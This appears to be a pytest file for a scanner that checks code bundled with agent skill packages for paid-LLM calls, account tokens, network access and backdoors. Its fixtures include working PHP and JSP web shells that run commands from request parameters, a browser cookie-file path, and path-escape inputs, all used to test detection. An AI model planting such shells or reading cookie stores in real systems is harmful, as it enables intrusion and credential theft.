"""The package's bundled code is read for the needs SKILL.md rules look for, with file:line
evidence, and bounded on hostile input."""
from __future__ import annotations

from pathlib import Path

from pipeline.filters import bundled_code
from pipeline.ingest.skill_builder import build_skill
from workbench.models import Outcome

SKILL_MD = """---
name: release-notes
description: Turn a local git log into release notes. No API key needed.
---
# Release notes

1. Run `python scripts/notes.py --since v1.2` in the repository.
2. Review `NOTES.md`.
"""


def _package(tmp_path: Path, files: dict[str, str | bytes]):
    for rel, body in files.items():
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(body if isinstance(body, bytes) else body.encode())
    (tmp_path / "SKILL.md").write_text(SKILL_MD)
    return build_skill(SKILL_MD, where=f"{tmp_path}/SKILL.md", skill_key="release-notes", source_kind="folder",
                       source_path=str(tmp_path), source_ref=None, package_files=["SKILL.md", *files],
                       content_hash="x" * 64)


def test_a_script_the_skill_runs_that_calls_a_paid_llm_fails_with_file_and_line(tmp_path):
    skill = _package(tmp_path, {"scripts/notes.py": "import subprocess\nfrom openai import OpenAI\n\nclient = OpenAI()\n"})
    res = bundled_code.code_paid_service(skill)
    assert res.outcome == Outcome.FAIL, res.evidence
    assert "scripts/notes.py:2" in res.evidence and res.location == "scripts/notes.py:2"


def test_a_typescript_source_with_an_llm_host_and_key_fails(tmp_path):
    src = ("const key = process.env.ANTHROPIC_API_KEY;\n"
           "await fetch('https://api.anthropic.com/v1/messages', {headers: {'x-api-key': key}});\n")
    res = bundled_code.code_paid_service(_package(tmp_path, {"src/index.ts": src}))
    assert res.outcome == Outcome.FAIL and "src/index.ts:1" in res.evidence, res.evidence


def test_a_token_from_the_environment_or_a_browser_profile_is_an_account(tmp_path):
    src = ("import os\nTOKEN = os.environ['WIKI_API_TOKEN']\n"
           "PROFILE = '~/.config/google-chrome/Default/Cookies'\n")
    res = bundled_code.code_account(_package(tmp_path, {"scripts/notes.py": src}))
    assert res.outcome == Outcome.FAIL and "scripts/notes.py:2" in res.evidence, res.evidence
    assert "google-chrome" in res.evidence


def test_a_remote_call_or_a_lan_device_is_a_network_need(tmp_path):
    src = ("import requests\nr = requests.get('https://ci.example.org/api/json')\n"
           "LAMP = '192.168.1.40'\n")
    res = bundled_code.code_network(_package(tmp_path, {"tools/sync.py": src}))
    assert res.outcome == Outcome.FAIL and "tools/sync.py:2" in res.evidence and "tools/sync.py:3" in res.evidence


def test_offline_code_comments_and_local_hosts_pass(tmp_path):
    src = ("#!/usr/bin/env python3\n# uses openai's format? no: plain git\nimport subprocess, os\n"
           "HOME = os.environ['HOME']\nlog = subprocess.run(['git', 'log'], capture_output=True)\n"
           "requests_url = 'http://localhost:8000/health'\n")
    skill = _package(tmp_path, {"scripts/notes.py": src})
    for rule in bundled_code.RULES:
        assert rule(skill).outcome == Outcome.PASS, rule(skill).evidence


def test_a_need_only_in_a_test_file_is_a_warning(tmp_path):
    skill = _package(tmp_path, {"scripts/notes.py": "print('ok')\n",
                                "tests/test_live.py": "import requests\nrequests.get('https://api.example.com/x')\n"})
    res = bundled_code.code_network(skill)
    assert res.outcome == Outcome.WARN and "tests/test_live.py:2" in res.evidence, res.evidence


def test_hostile_packages_are_read_within_bounds(tmp_path, monkeypatch):
    # a file past the byte cap is read only up to it; a binary file and a link are not read
    big = "x = 1\n" * (bundled_code.MAX_FILE_BYTES // 6 + 10) + "from openai import OpenAI\n"
    outside = tmp_path.parent / f"{tmp_path.name}-outside.py"
    outside.write_text("from openai import OpenAI\n")
    skill = _package(tmp_path, {"scripts/notes.py": big, "scripts/blob.py": b"\0from openai import OpenAI\n"})
    (tmp_path / "scripts/link.py").symlink_to(outside)
    skill = skill.model_copy(update={"package_files": [*skill.package_files, "scripts/link.py", "../escape.py"]})
    assert bundled_code.code_paid_service(skill).outcome == Outcome.PASS
    # a minified line is cut to MAX_LINE_CHARS
    long_line = "a" * (bundled_code.MAX_LINE_CHARS * 3)
    lines = bundled_code.read_code(tmp_path, "scripts/min.js") if (tmp_path / "scripts/min.js").write_text(long_line) else []
    assert len(lines[0].text) == bundled_code.MAX_LINE_CHARS
    # past MAX_FILES files, the rest are not read
    monkeypatch.setattr(bundled_code, "MAX_FILES", 1)
    many = _package(tmp_path / "many", {"a.py": "print(1)\n", "b.py": "from openai import OpenAI\nimport openai\n"})
    assert bundled_code.code_files(many) == ["a.py"]
    assert bundled_code.code_paid_service(many).outcome == Outcome.PASS


def test_a_jsonl_record_has_no_package_to_read():
    skill = build_skill(SKILL_MD, where="x.jsonl:1", skill_key="k", source_kind="jsonl", source_path="x.jsonl",
                        source_ref=None, package_files=[], content_hash="x" * 64)
    assert bundled_code.code_files(skill) == [] and bundled_code.code_network(skill).outcome == Outcome.PASS


def test_a_bundled_web_shell_is_unsafe(tmp_path):
    shell = "<?php\nif (isset($_GET['cmd'])) {\n    echo '<pre>' . shell_exec($_GET['cmd']) . '</pre>';\n}\n"
    jsp = ('<%@ page import="java.io.*" %>\n<% String c = request.getParameter("c");\n'
           "Process p = Runtime.getRuntime().exec(c); %>\n")
    skill = _package(tmp_path, {"references/shells/cmd.php": shell, "references/shells/cmd.jsp": jsp})
    res = bundled_code.code_backdoor(skill)
    assert res.rule == "safety.code_backdoor" and res.outcome == Outcome.FAIL, res.evidence
    assert "references/shells/cmd.php:3" in res.evidence and "references/shells/cmd.jsp:3" in res.evidence


def test_server_pages_that_read_input_or_run_fixed_commands_are_not_web_shells(tmp_path):
    form = "<?php\n$name = htmlspecialchars($_POST['name']);\necho \"Hello $name\";\n"
    cron = "<?php\n$out = shell_exec('date +%F');\necho $out;\n"
    skill = _package(tmp_path, {"app/hello.php": form, "app/today.php": cron})
    assert bundled_code.code_backdoor(skill).outcome == Outcome.PASS
